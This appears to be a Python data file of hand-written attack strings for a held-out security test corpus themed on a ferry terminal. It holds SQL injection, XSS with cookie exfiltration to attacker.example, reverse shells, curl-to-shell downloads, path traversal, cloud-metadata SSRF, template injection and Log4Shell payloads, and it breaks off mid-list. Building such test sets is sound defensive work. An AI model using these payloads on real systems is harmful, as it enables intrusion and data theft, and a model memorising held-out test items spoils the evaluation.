#!/usr/bin/env python3
"""Attack values for the ferryterminal held-out corpus (hand-written)."""
import json, os, random

SEED = 31602
HERE = os.path.dirname(os.path.abspath(__file__))

SQLI = [
    ("union", "Oban' UNION SELECT username, password_hash FROM staff_users--"),
    ("union", "0715') union all select null,booking_ref,card_last4,null from payments-- -"),
    ("union", "Craignure' UnIoN SeLeCt 1,group_concat(email),3 FROM passengers#"),
    ("union", "-1 UNION SELECT table_name,2,3 FROM information_schema.tables WHERE table_schema=database()"),
    ("union", "FT-2024-00871' union/**/select/**/concat(name,0x3a,pin),2 from crew_roster-- x"),
    ("union", "Brodick'/*!50000UNION*//*!50000SELECT*/ vessel_imo, master_pw FROM vessels-- "),
    ("union", "ramp' UNION SELECT NULL,NULL,version()--"),
    ("union", "TRL-4471' union select 1,load_file('/etc/passwd'),3-- -"),
    ("union", "x')) UNION SELECT sql,2 FROM sqlite_master--"),
    ("union", "lost wallet%' UNION SELECT name, api_key FROM integrations WHERE '%'='"),
    ("boolean", "Oban' AND 1=1-- "),
    ("boolean", "Craignure' OR '1'='1"),
    ("boolean", "FT-00871' or 2>1 -- booking lookup"),
    ("boolean", "admin'-- "),
    ("boolean", "' OR 'x'='x' /* skip password */"),
    ("boolean", "purser@ferry.example' OR 1=1 LIMIT 1-- -"),
    ("boolean", "07:15' AND SUBSTRING((SELECT password FROM staff_users LIMIT 1),1,1)='a"),
    ("boolean", "1 AND ASCII(SUBSTR((SELECT user()),1,1))>100"),
    ("boolean", "Port Ellen' AND (SELECT COUNT(*) FROM crew)>0 AND 'a'='a"),
    ("boolean", "3 or true"),
    ("boolean", "SN19ABC'||'1'='1"),
    ("boolean", "lounge' AnD 'q' LiKe 'q"),
    ("boolean", "1' aNd 0x61=0x61#"),
    ("time", "Oban'; WAITFOR DELAY '0:0:7'--"),
    ("time", "0900' AND SLEEP(6)-- -"),
    ("time", "1 AND (SELECT 1 FROM (SELECT SLEEP(8))x)"),
    ("time", "Tobermory' || pg_sleep(9) || '"),
    ("time", "1;SELECT pg_sleep(10)--"),
    ("time", "x' AND 4421=BENCHMARK(4000000,MD5(0x41))-- "),
    ("time", "cabin 4B' and if(substr(database(),1,1)='f',sleep(5),0)-- -"),
    ("time", "1 OR (CASE WHEN (1=1) THEN pg_sleep(7) ELSE pg_sleep(0) END) IS NULL"),
    ("time", "FT-1001'; IF (SELECT COUNT(*) FROM sysobjects)>0 WAITFOR DELAY '00:00:06'--"),
    ("time", "x' AND 1=(SELECT 1 FROM PG_SLEEP(5))--"),
    ("time", "3 AND randomblob(300000000)"),
    ("error", "Oban' AND extractvalue(1,concat(0x7e,(SELECT user()),0x7e))-- "),
    ("error", "1 AND updatexml(null,concat(0x0a,(select password from staff_users limit 0,1)),null)"),
    ("error", "x' AND 1=CONVERT(int,(SELECT TOP 1 name FROM sys.tables))--"),
    ("error", "0715' AND CAST((SELECT string_agg(email,',') FROM passengers) AS int)=1--"),
    ("error", "' AND (SELECT 1 FROM(SELECT COUNT(*),CONCAT((SELECT @@version),FLOOR(RAND(0)*2))y FROM information_schema.tables GROUP BY y)z)-- "),
    ("error", "1' and exp(~(select * from (select user())a))-- -"),
    ("error", "x' || utl_inaddr.get_host_name((select banner from v$version where rownum=1)) || '"),
    ("stacked", "Oban'; DROP TABLE sailings;--"),
    ("stacked", "0900'; UPDATE bookings SET amount_paid=0 WHERE ref='FT-3390';--"),
    ("stacked", "lost scarf'; INSERT INTO staff_users(username,role,pw) VALUES('ferrytemp','admin','x');-- "),
    ("stacked", "1; EXEC xp_cmdshell 'whoami'--"),
    ("stacked", "x'; EXEC master..xp_dirtree '\\\\attacker.example\\share'--"),
    ("stacked", "FT-1002'; DELETE FROM complaints WHERE id>0; --"),
    ("stacked", "1; CREATE TABLE pwn(t text); COPY pwn FROM PROGRAM 'id';--"),
    ("stacked", "Kennacraig'; ALTER USER ferry_app WITH SUPERUSER;--"),
    ("stacked", "2'; TRUNCATE TABLE lost_property; SELECT '1"),
    ("oob", "x' UNION SELECT LOAD_FILE(CONCAT('\\\\\\\\',(SELECT password FROM staff_users LIMIT 1),'.attacker.example\\\\a'))-- "),
    ("oob", "1' AND (SELECT UTL_HTTP.REQUEST('http://attacker.example/'||(SELECT user FROM dual)) FROM dual) IS NOT NULL--"),
    ("oob", "x'; DECLARE @q varchar(99); SET @q='\\\\'+(SELECT TOP 1 pw FROM staff)+'.attacker.example\\x'; EXEC master.dbo.xp_fileexist @q;--"),
    ("into-outfile", "1 UNION SELECT '<?php system($_GET[c]); ?>',2 INTO OUTFILE '/var/www/html/manifest_c.php'-- "),
    ("order-by", "departure_time, (SELECT CASE WHEN (SELECT substr(pw,1,1) FROM staff_users LIMIT 1)='a' THEN 1 ELSE 1/0 END)"),
    ("order-by", "departure_time ASC, IF(1=1,sleep(4),1)"),
    ("order-by", "(CASE WHEN (SELECT COUNT(*) FROM staff_users)>3 THEN vessel ELSE route END)"),
    ("order-by", "1,extractvalue(0x0a,concat(0x0a,(select database())))"),
    ("obfuscated", "Oban'/**/oR/**/1/**/=/**/1/**/--/**/"),
    ("obfuscated", "0715'%0aunion%0aselect%0a1,2,pin%0afrom%0acrew_roster--"),
    ("obfuscated", "x'%20OR%20'1'%3D'1"),
    ("obfuscated", "x%2527%2520or%25201%253D1--"),
    ("obfuscated", "Brodick\uff07 OR 1=1--"),
    ("obfuscated", "1 uni/**/on sel/**/ect user,pw fr/**/om staff_users"),
    ("obfuscated", "x' OR 0x31=0x31-- "),
    ("obfuscated", "ferry' oR/*comment*/'a'<>'b"),
    ("obfuscated", "FT-00871'\tOR\t1=1\t--\t"),
    ("obfuscated", "x' or char(49)=char(49)#"),
    ("obfuscated", "SN19ABC' || (select chr(114)||chr(111)||chr(111)||chr(116)) = 'root' --"),
    ("second-order", "Mac'Leod'), ('FT-9999','admin','0'); --"),
    ("json", "{\"ref\":\"FT-0001' OR '1'='1\",\"surname\":\"x\"}"),
    ("sqlite", "x' UNION SELECT group_concat(name),2 FROM pragma_table_info('staff_users')--"),
]
SQLI_POOL = [
    "' OR 1=1-- -", "' UNION SELECT NULL,email FROM passengers-- ", "' AND SLEEP(5)#",
    "'; DROP TABLE manifests;--", "' AND 1=CAST(version() AS int)--", "') OR ('a'='a",
]
SQLI_PREFIX = ["Oban", "FT-2024-00412", "TRL-2208", "Craignure", "lost umbrella", "18:30", "SN19ABC"]
SQLI_URLENC = [
    ("union", "Oban' UNION SELECT pw FROM staff_users--"),
    ("time", "1' AND SLEEP(6)-- -"),
    ("boolean", "x' OR '1'='1'-- "),
    ("stacked", "FT-1'; DROP TABLE bookings;--"),
]

XSS = [
    ("tag", "Lost a red scarf <script>fetch('https://attacker.example/c?'+document.cookie)</script>"),
    ("tag", "<ScRiPt src=//attacker.example/x.js></sCrIpT>"),
    ("tag", "Ferry was late again </textarea><script>alert(document.domain)</script>"),
    ("tag", "<script>new Image().src='//attacker.example/s?c='+localStorage.getItem('token')</script>"),
    ("tag", "complaint</title><script>document.location='https://attacker.example/?'+document.cookie</script>"),
    ("event", "<img src=x onerror=alert(1)>"),
    ("event", "Teddy found on deck <img src=/nope onerror=\"fetch('//attacker.example/'+document.cookie)\">"),
    ("event", "<svg onload=confirm`ferry`>"),
    ("event", "<body onload=import('//attacker.example/m.js')>"),
    ("event", "<details open ontoggle=alert(origin)>"),
    ("event", "<input autofocus onfocus=eval(atob('YWxlcnQoMSk='))>"),
    ("event", "<video><source onerror=\"top['al'+'ert'](1)\"></video>"),
    ("event", "<marquee onstart=alert(document.cookie)>cancelled</marquee>"),
    ("event", "<div onmouseover=\"location='//attacker.example/?'+document.cookie\">hover for timetable</div>"),
    ("event", "<audio src=1 onerror=window.onerror=alert;throw+1>"),
    ("event", "<iMg SrC=x OnErRoR=prompt(8)>"),
    ("event", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
    ("event", "<select autofocus onfocus=alert(1)></select>"),
    ("event", "<textarea autofocus onfocus=alert`1`>"),
    ("event", "<img src=x:x onerror=&#97;&#108;&#101;&#114;&#116;(1)>"),
    ("event", "<img/src/onerror=alert(1)>"),
    ("event", "<svg/onload=self[`al`+`ert`]`1`>"),
    ("event", "<body onpageshow=alert(1)>"),
    ("event", "<img src=x onerror=\"this.src='//attacker.example/?k='+encodeURIComponent(document.body.innerHTML)\">"),
    ("event", "<iframe srcdoc=\"<script>parent.alert(1)</script>\"></iframe>"),
    ("attr-break", "\" onmouseover=\"alert(1)"),
    ("attr-break", "FT-00871\" autofocus onfocus=\"alert(document.cookie)\" x=\""),
    ("attr-break", "' onfocus='alert(1)' autofocus='"),
    ("attr-break", "Tobermory\"><svg onload=alert(1)>"),
    ("attr-break", "x\" style=\"animation-name:spin\" onanimationstart=\"alert(1)"),
    ("attr-break", "'><img src=x onerror=alert(1)>"),
    ("js-context", "';alert(document.cookie);//"),
    ("js-context", "\\';alert(1);//"),
    ("js-context", "</script><script>alert(1)</script>"),
    ("js-context", "Oban\"-alert(1)-\""),
    ("js-context", "${alert(1)}`;fetch(`//attacker.example`);`"),
    ("js-context", "'}-alert(1)-{'"),
    ("js-context", "\\u0027-alert(1)-\\u0027"),
    ("uri", "javascript:alert(document.cookie)"),
    ("uri", "JaVaScRiPt:fetch('//attacker.example/'+document.cookie)"),
    ("uri", "java\tscript:alert(1)"),
    ("uri", "&#106;avascript:alert(1)"),
    ("uri", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="),
    ("uri", "<a href=\"javascript&colon;alert(1)\">View updated timetable</a>"),
    ("uri", "<a href=\"jav&#x09;ascript:alert(1)\">Booking FT-3390</a>"),
    ("uri", "<iframe src=\"javascript:alert(parent.document.cookie)\">"),
    ("uri", "<form action=javascript:alert(1)><button>Rebook free</button></form>"),
    ("uri", "<object data=\"data:text/html,<script>alert(1)</script>\"></object>"),
    ("uri", "<embed src=\"javascript:alert(1)\">"),
    ("uri", "<math><mtext><a xlink:href=\"javascript:alert(1)\">click</a></mtext></math>"),
    ("uri", "<svg><a href=\"javascript:alert(1)\"><text x=20 y=20>see map</text></a></svg>"),
    ("uri", "<base href=\"//attacker.example/\">"),
    ("uri", "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">"),
    ("encoded", "%3Cscript%3Ealert(1)%3C%2Fscript%3E"),
    ("encoded", "%253Cimg%2520src%253Dx%2520onerror%253Dalert(1)%253E"),
    ("encoded", "&lt;img src=x onerror=alert(1)&gt;"),
    ("encoded", "\\u003cimg src=x onerror=alert(1)\\u003e"),
    ("encoded", "\\x3csvg onload=alert(1)\\x3e"),
    ("encoded", "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e"),
    ("encoded", "%u003Cscript%u003Ealert(1)%u003C/script%u003E"),
    ("encoded", "&#x3C;svg onload=alert(1)&#x3E;"),
    ("encoded", "<img src=x onerror=\"\\u0061lert(1)\">"),
    ("encoded", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-"),
    ("mxss", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">"),
    ("mxss", "<svg><style><img src=x onerror=alert(1)></style></svg>"),
    ("mxss", "<math><mi><table><mglyph><style><img src=x onerror=alert(1)>"),
    ("mxss", "<!--><img src=x onerror=alert(1)>-->"),
    ("markdown", "[Updated timetable](javascript:alert(document.cookie))"),
    ("markdown", "![storm](x\" onerror=\"alert(1))"),
    ("markdown", "[click](data:text/html,%3Cscript%3Ealert(1)%3C/script%3E)"),
    ("template", "{{constructor.constructor('alert(1)')()}}"),
    ("template", "<div ng-app>{{$on.constructor('fetch(\"//attacker.example\")')()}}</div>"),
    ("css", "<style>@import '//attacker.example/x.css';</style>"),
    ("css", "<div style=\"background:url(javascript:alert(1))\">"),
    ("svg", "<svg><script href=data:,alert(1) />"),
    ("svg", "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)'/></svg>#x\"/></svg>"),
]
XSS_POOL = [
    "<img src=x onerror=alert(document.cookie)>", "<svg onload=fetch('//attacker.example/'+document.cookie)>",
    "<script>alert(origin)</script>", "\"><iframe src=javascript:alert(1)>",
]
XSS_PREFIX = ["Lost black backpack, deck 5 ", "The 07:15 left early!! ", "Hello from Lyon, ",
              "Notice 2024/031: ", "Crew swap Sat -> "]

CMDI = [
    ("separator", "Oban; cat /etc/passwd"),
    ("separator", "manifest_0715.csv; id"),
    ("separator", "0715 && curl -s http://attacker.example/p.sh | sh"),
    ("separator", "TRL-4471 | nc 203.0.113.9 4444 -e /bin/sh"),
    ("separator", "export.csv || wget -qO- http://attacker.example/x | bash"),
    ("separator", "2024-06-01;uname -a;"),
    ("separator", "report.pdf & ping -n 12 127.0.0.1 &"),
    ("separator", "Craignure\nid\n"),
    ("separator", "FT-00871%0acat%20/etc/shadow"),
    ("separator", "roster.xlsx;rm -rf /var/www/uploads/*"),
    ("separator", "x; bash -i >& /dev/tcp/198.51.100.23/443 0>&1"),
    ("separator", "weather.txt | tee /tmp/.x; chmod +x /tmp/.x"),
    ("separator", "OBN-CRN; python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.50\",9001));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"sh\")'"),
    ("separator", "a.csv; perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(4444,inet_aton(\"203.0.113.7\")));open(STDIN,\">&S\");exec(\"/bin/sh -i\")'"),
    ("separator", "manifest.csv\r\nwhoami"),
    ("separator", "2024-11-02 ; php -r '$s=fsockopen(\"198.51.100.4\",1234);exec(\"sh <&3 >&3 2>&3\");'"),
    ("separator", "ticket.pdf; mkfifo /tmp/f; nc 203.0.113.5 80 < /tmp/f | sh > /tmp/f"),
    ("separator", "0900;echo c2ggLWkgPiYgL2Rldi90Y3AvMjAzLjAuMTEzLjEvOTAwMSAwPiYx|base64 -d|sh"),
    ("separator", "label.png; crontab -l; echo '* * * * * curl attacker.example/b|sh' | crontab -"),
    ("separator", "sailing.log; ls -la /home"),
    ("substitution", "Oban $(id)"),
    ("substitution", "export_`whoami`.csv"),
    ("substitution", "$(curl -fsSL http://attacker.example/r.sh|sh)"),
    ("substitution", "TRL-$(cat /etc/hostname)"),
    ("substitution", "`nslookup $(whoami).attacker.example`"),
    ("substitution", "manifest_$(sleep 9).csv"),
    ("substitution", "roster$(echo${IFS}pwned>/tmp/p).txt"),
    ("substitution", "photo.jpg`ping -c 5 198.51.100.11`"),
    ("substitution", "$(printf '\\x63\\x61\\x74' /etc/passwd)"),
    ("substitution", "0715<$(id>/dev/tcp/203.0.113.3/80)"),
    ("evasion", "x;c''at${IFS}/e't'c/pas''swd"),
    ("evasion", "x;/???/c?t /???/p?ss??"),
    ("evasion", "0715;{cat,/etc/passwd}"),
    ("evasion", "a;$'\\x69\\x64'"),
    ("evasion", "a|w\\h\\o\\a\\m\\i"),
    ("evasion", "x;c${u}at /e${u}tc/pa${u}sswd"),
    ("evasion", "x;cat$IFS$9/etc/passwd"),
    ("evasion", "b;X=$'\\143\\141\\164';$X /etc/hosts"),
    ("evasion", "x%3bcat%20/etc/passwd"),
    ("evasion", "x%253Bid"),
    ("evasion", "c;$(rev<<<'di')"),
    ("evasion", "m;a=ca;b=t;$a$b /etc/passwd"),
    ("evasion", "x;`echo aWQ=|base64 -d`"),
    ("evasion", "x;\"w\"h\"o\"a\"m\"i"),
    ("evasion", "tr;${PATH:0:1}bin${PATH:0:1}id"),
    ("evasion", "x\n/bin/bu?ybox nc 203.0.113.8 5555 -e sh"),
    ("windows", "manifest.csv & type C:\\Windows\\win.ini"),
    ("windows", "x | powershell -nop -w hidden -c \"IEX(New-Object Net.WebClient).DownloadString('http://attacker.example/a.ps1')\""),
    ("windows", "0715 && net user ferrysvc P@ss1 /add"),
    ("windows", "label.pdf & certutil -urlcache -split -f http://attacker.example/b.exe %TEMP%\\b.exe & %TEMP%\\b.exe"),
    ("windows", "x|cmd /c \"dir c:\\users\""),
    ("windows", "a & p^o^w^e^r^s^h^e^l^l -enc SQBFAFgA"),
    ("windows", "x&set /a 1+1&whoami /all"),
    ("windows", "report & mshta http://attacker.example/h.hta"),
    ("windows", "x | rundll32 \\\\203.0.113.12\\s\\p.dll,Entry"),
    ("argument", "-oProxyCommand=curl attacker.example/s|sh"),
    ("argument", "--output=/var/www/html/shell.php http://attacker.example/s.txt"),
    ("argument", "-exec sh -c 'id' ;"),
    ("argument", "--checkpoint=1 --checkpoint-action=exec=sh /tmp/x.sh"),
    ("argument", "manifest.csv -o /etc/cron.d/ferry"),
    ("argument", "--use-compress-program='sh -c id'"),
    ("argument", "-X /var/www/html/x.php -OQueueDirectory=/tmp"),
    ("imagemagick", "push graphic-context\nviewbox 0 0 640 480\nfill 'url(https://attacker.example/x.jpg\"|curl \"attacker.example/$(id))'\npop graphic-context"),
    ("mail", "skipper@ferry.example -be ${run{/bin/sh -c 'id > /tmp/m'}}"),
    ("mail", "\"a\\\" -OQueueDirectory=/tmp -X/var/www/html/x.php \"@attacker.example"),
    ("backtick-php", "x`curl attacker.example/$(hostname)`"),
    ("blind", "FT-1; sleep 10 #"),
    ("blind", "x || ping -c 10 127.0.0.1 ||"),
    ("blind", "0900 & timeout /t 8 &"),
    ("blind", "r;dig $(id -un).attacker.example"),
]
CMDI_POOL = ["; id", "| cat /etc/passwd", "&& curl attacker.example/s|sh", "`whoami`", "$(uname -a)"]
CMDI_PREFIX = ["manifest_2024-06-01.csv", "weather_0715.log", "roster_w33.xlsx", "lp_photo_0442.jpg", "OBN-CRN"]

TRAV = [
    ("dotdot", "../../../../etc/passwd"),
    ("dotdot", "manifests/../../../../etc/shadow"),
    ("dotdot", "timetable/../../config/database.yml"),
    ("dotdot", "../../../var/www/ferry/.env"),
    ("dotdot", "exports/2024/../../../../../proc/self/environ"),
    ("dotdot", "..\\..\\..\\..\\windows\\win.ini"),
    ("dotdot", "..\\..\\inetpub\\wwwroot\\web.config"),
    ("dotdot", "lost_property/photos/../../../../root/.ssh/id_rsa"),
    ("dotdot", "roster/../../../../home/ferry/.bash_history"),
    ("dotdot", "../../../../../../proc/self/cmdline"),
    ("dotdot", "notices/../../app/settings.py"),
    ("dotdot", "..//..//..//..//etc//hosts"),
    ("dotdot", "....//....//....//etc/passwd"),
    ("dotdot", "..././..././..././etc/passwd"),
    ("dotdot", "....\\\\....\\\\....\\\\windows\\\\system32\\\\drivers\\\\etc\\\\hosts"),
    ("dotdot", "manifest_0715.csv/../../../../../../etc/group"),
    ("dotdot", "../../../../var/log/nginx/access.log"),
    ("dotdot", "../.git/config"),
    ("dotdot", "uploads/../../../../../../usr/local/etc/php/php.ini"),
    ("encoded", "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd"),
    ("encoded", "%2e%2e/%2e%2e/%2e%2e/etc/shadow"),
    ("encoded", "..%2f..%2f..%2fvar%2fwww%2fferry%2f.env"),
    ("encoded", "%252e%252e%252f%252e%252e%252fetc%252fpasswd"),
    ("encoded", "..%252f..%252f..%252fproc%252fself%252fenviron"),
    ("encoded", "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd"),
    ("encoded", "..%c0%af..%c0%af..%c0%afetc%c0%afpasswd"),
    ("encoded", "..%c1%9c..%c1%9c..%c1%9cwindows%c1%9cwin.ini"),
    ("encoded", "%u002e%u002e%u2215%u002e%u002e%u2215etc%u2215passwd"),
    ("encoded", "..%5c..%5c..%5cwindows%5cwin.ini"),
    ("encoded", "..%255c..%255cboot.ini"),
    ("encoded", "\uff0e\uff0e/\uff0e\uff0e/\uff0e\uff0e/etc/passwd"),
    ("encoded", "%2E%2E%5C%2E%2E%5C%2E%2E%5Cweb.config"),
    ("encoded", ".%2e/.%2e/.%2e/etc/passwd"),
    ("nullbyte", "../../../../etc/passwd%00.pdf"),
    ("nullbyte", "manifests/../../../etc/shadow\\u0000.csv"),
    ("nullbyte", "../../../app/config.php%00.jpg"),
    ("absolute", "/etc/passwd"),
    ("absolute", "/proc/self/environ"),
    ("absolute", "C:\\Windows\\System32\\config\\SAM"),
    ("absolute", "file:///etc/passwd"),
    ("absolute", "\\\\?\\C:\\Windows\\win.ini"),
    ("absolute", "/var/run/secrets/kubernetes.io/serviceaccount/token"),
    ("wrapper", "php://filter/convert.base64-encode/resource=../config/db.php"),
    ("wrapper", "php://filter/read=string.rot13/resource=index.php"),
    ("wrapper", "zip://uploads/lp_photo.jpg#shell.php"),
    ("wrapper", "phar://uploads/manifest_import.csv/x.php"),
]
TRAV_URLENC = [
    "../../../../etc/passwd",
    "..\\..\\..\\windows\\win.ini",
    "exports/../../../../proc/self/environ",
    "../../../var/www/ferry/.env",
]

SSRF = [
    ("metadata", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    ("metadata", "http://169.254.169.254/computeMetadata/v1/instance/service-accounts/default/token"),
    ("metadata", "http://metadata.google.internal/computeMetadata/v1/?recursive=true"),
    ("metadata", "http://169.254.169.254/metadata/instance?api-version=2021-02-01"),
    ("metadata", "http://[fd00:ec2::254]/latest/meta-data/"),
    ("metadata", "http://100.100.100.200/latest/meta-data/ram/security-credentials/"),
    ("metadata", "http://169.254.169.254/latest/user-data"),
    ("alt-ip", "http://2852039166/latest/meta-data/"),
    ("alt-ip", "http://0xa9fea9fe/latest/meta-data/"),
    ("alt-ip", "http://0251.0376.0251.0376/latest/meta-data/"),
    ("alt-ip", "http://169.254.43518/latest/meta-data/"),
    ("alt-ip", "http://0x7f.0.0.1:6379/"),
    ("alt-ip", "http://2130706433:8080/admin"),
    ("alt-ip", "http://017700000001/server-status"),
    ("alt-ip", "http://127.1/admin/roster"),
    ("alt-ip", "http://0/"),
    ("alt-ip", "http://[::ffff:a9fe:a9fe]/latest/meta-data/"),
    ("alt-ip", "http://[::1]:9200/_cat/indices"),
    ("alt-ip", "http://[0:0:0:0:0:ffff:127.0.0.1]:8500/v1/agent/self"),
    ("alt-ip", "http://①⑥⑨.②⑤④.①⑥⑨.②⑤④/latest/meta-data/"),
    ("internal", "http://localhost:8080/actuator/env"),
    ("internal", "http://127.0.0.1:2375/containers/json"),
    ("internal", "http://10.0.0.5:8500/v1/kv/?recurse"),
    ("internal", "http://192.168.1.20/cgi-bin/admin.cgi"),
    ("internal", "http://172.16.4.9:9000/minio/admin/v3/info"),
    ("internal", "http://ferry-db.internal:5984/_all_dbs"),
    ("internal", "https://kubernetes.default.svc/api/v1/namespaces/default/secrets"),
    ("internal", "http://localhost:15672/api/users"),
    ("internal", "http://127.0.0.1:10250/pods"),
    ("scheme", "gopher://127.0.0.1:6379/_SET%20x%20%22%5Cn*%20*%20*%20*%20*%20curl%20attacker.example%2Fs%7Csh%5Cn%22%0D%0ASAVE%0D%0A"),
    ("scheme", "gopher://localhost:25/_HELO%20x%0D%0AMAIL%20FROM%3A%3Cops%40ferry.example%3E%0D%0A"),
    ("scheme", "dict://127.0.0.1:11211/stats"),
    ("scheme", "file:///etc/shadow"),
    ("scheme", "ldap://127.0.0.1:389/dc=ferry,dc=local"),
    ("scheme", "tftp://203.0.113.14/manifest.csv"),
    ("scheme", "jar:http://attacker.example/x.jar!/"),
    ("scheme", "netdoc:///etc/passwd"),
    ("parser", "http://attacker.example@169.254.169.254/latest/meta-data/"),
    ("parser", "http://169.254.169.254#@ferry.example/timetable.ics"),
    ("parser", "http://ferry.example.attacker.example/redirect?to=http://127.0.0.1/admin"),
    ("parser", "https://ferry.example\\@127.0.0.1:8080/"),
    ("parser", "http://127.0.0.1%2523@ferry.example/"),
    ("parser", "http://localtest.attacker.example/ (resolves to 127.0.0.1)"),
    ("redirect", "https://attacker.example/302?u=http://169.254.169.254/latest/meta-data/"),
    ("redirect", "http://r.attacker.example/go?to=gopher://127.0.0.1:6379/_INFO"),
    ("webhook", "{\"webhook_url\":\"http://127.0.0.1:9200/_search?q=*\"}"),
]
SSRF_POOL = ["http://169.254.169.254/latest/meta-data/", "http://127.0.0.1:6379/", "http://[::1]/admin",
             "http://0x7f000001/", "file:///etc/passwd"]
SSRF_PREFIX = ["weather feed url: ", "timetable ical import ", "Webcam snapshot URL=", "Port notice image from "]

CODE = [
    ("ssti-jinja", "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}"),
    ("ssti-jinja", "Dear {{ passenger }}, {{ cycler.__init__.__globals__.os.popen('cat /etc/passwd').read() }}"),
    ("ssti-jinja", "{{ ''.__class__.__mro__[1].__subclasses__() }}"),
    ("ssti-jinja", "{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__=='Popen' %}{{ c(['id'],stdout=-1).communicate() }}{% endif %}{% endfor %}"),
    ("ssti-jinja", "{{ request.application.__globals__.__builtins__.open('/etc/passwd').read() }}"),
    ("ssti-jinja", "{{ config.items() }}"),
    ("ssti-jinja", "{{ lipsum.__globals__['os'].popen('curl attacker.example/x|sh').read() }}"),
    ("ssti-jinja", "{{ request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f') }}"),
    ("ssti-jinja", "{{ namespace.__init__.__globals__.os.system('id') }}"),
    ("ssti-jinja", "{{7*'7'}} {{ get_flashed_messages.__globals__.current_app.config }}"),
    ("ssti-twig", "{{ ['id']|filter('system') }}"),
    ("ssti-twig", "{{ _self.env.registerUndefinedFilterCallback('exec') }}{{ _self.env.getFilter('id') }}"),
    ("ssti-twig", "{{ ['cat /etc/passwd']|map('passthru')|join }}"),
    ("ssti-freemarker", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ ex(\"id\") }"),
    ("ssti-freemarker", "${\"freemarker.template.utility.ObjectConstructor\"?new()(\"java.lang.ProcessBuilder\",[\"id\"]).start()}"),
    ("ssti-velocity", "#set($rt=$x.class.forName('java.lang.Runtime'))#set($p=$rt.getRuntime().exec('id'))$p.waitFor()"),
    ("ssti-thymeleaf", "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x"),
    ("ssti-erb", "<%= `id` %>"),
    ("ssti-erb", "<%= File.read('/etc/passwd') %>"),
    ("ssti-erb", "<%= system('curl attacker.example/s | sh') %>"),
    ("ssti-smarty", "{system('id')}"),
    ("ssti-smarty", "{php}echo shell_exec('id');{/php}"),
    ("ssti-handlebars", "{{#with \"s\" as |string|}}{{#with string.sub.apply 0 \"constructor\"}}{{this.constructor \"return process.mainModule.require('child_process').execSync('id')\"}}{{/with}}{{/with}}"),
    ("ssti-pug", "#{global.process.mainModule.require('child_process').execSync('id')}"),
    ("ssti-ejs", "<%= global.process.mainModule.require('child_process').execSync('cat /etc/passwd') %>"),
    ("ssti-mako", "${__import__('os').popen('id').read()}"),
    ("ssti-tornado", "{% import os %}{{ os.popen('whoami').read() }}"),
    ("ssti-razor", "@System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami\")"),
    ("el", "${T(java.lang.Runtime).getRuntime().exec('curl attacker.example/e')}"),
    ("el", "#{T(java.lang.System).getenv()}"),
    ("el", "${applicationScope}"),
    ("el", "#{''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')}"),
    ("el", "%{(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec('id'))}"),
    ("el", "${pageContext.request.getSession().getServletContext().getRealPath('/')}"),
    ("el", "*{T(org.springframework.util.StreamUtils).copyToByteArray(T(java.lang.Runtime).getRuntime().exec('id').getInputStream())}"),
    ("log4shell", "${jndi:ldap://attacker.example/a}"),
    ("log4shell", "Lost my bag ${jndi:rmi://203.0.113.20:1099/Ferry}"),
    ("log4shell", "${${lower:j}${lower:n}${lower:d}${lower:i}:${lower:l}dap://attacker.example/x}"),
    ("log4shell", "${${::-j}${::-n}${::-d}${::-i}:dns://x.attacker.example/q}"),
    ("log4shell", "${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}.attacker.example/}"),
    ("log4shell", "${j${k8s:k5:-ND}i${sd:k5:-:}ldap://attacker.example/o}"),
    ("log4shell", "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//198.51.100.3/z}"),
    ("log4shell", "%24%7Bjndi%3Aldap%3A%2F%2Fattacker.example%2Fb%7D"),
    ("eval-php", "<?php system($_GET['c']); ?>"),
    ("eval-php", "<?=`$_POST[x]`?>"),
    ("eval-php", "1;assert('system(\"id\")');"),
    ("eval-php", "${@eval(base64_decode($_REQUEST[q]))}"),
    ("eval-python", "__import__('os').system('id')"),
    ("eval-python", "eval(compile('import os;os.system(\"curl attacker.example/p|sh\")','x','exec'))"),
    ("eval-python", "().__class__.__bases__[0].__subclasses__()[140].__init__.__globals__['system']('id')"),
    ("eval-node", "require('child_process').exec('nc 203.0.113.9 4444 -e sh')"),
    ("eval-node", "process.mainModule.require('fs').readFileSync('/etc/passwd','utf8')"),
    ("eval-node", "this.constructor.constructor('return process')().mainModule.require('child_process').execSync('id')"),
    ("eval-node", "');require('child_process').execSync('id');//"),
    ("eval-ruby", "Kernel.exec('id')"),
    ("eval-ruby", "#{`cat /etc/passwd`}"),
    ("proto", "{\"__proto__\":{\"isAdmin\":true}}"),
    ("proto", "{\"constructor\":{\"prototype\":{\"role\":\"harbourmaster\"}}}"),
    ("proto", "__proto__[outputFunctionName]=x;process.mainModule.require('child_process').execSync('id');//"),
    ("proto", "{\"booking\":{\"__proto__\":{\"shell\":\"/proc/self/exe\",\"NODE_OPTIONS\":\"--require /proc/self/environ\"}}}"),
    ("proto", "constructor[prototype][allowDangerousGoods]=true"),
    ("formula", "=cmd|' /C calc'!A0"),
    ("formula", "=HYPERLINK(\"https://attacker.example/?d=\"&A2&B2,\"Manifest details\")"),
    ("formula", "@SUM(1+1)*cmd|' /C powershell IEX(wget attacker.example/m)'!A0"),
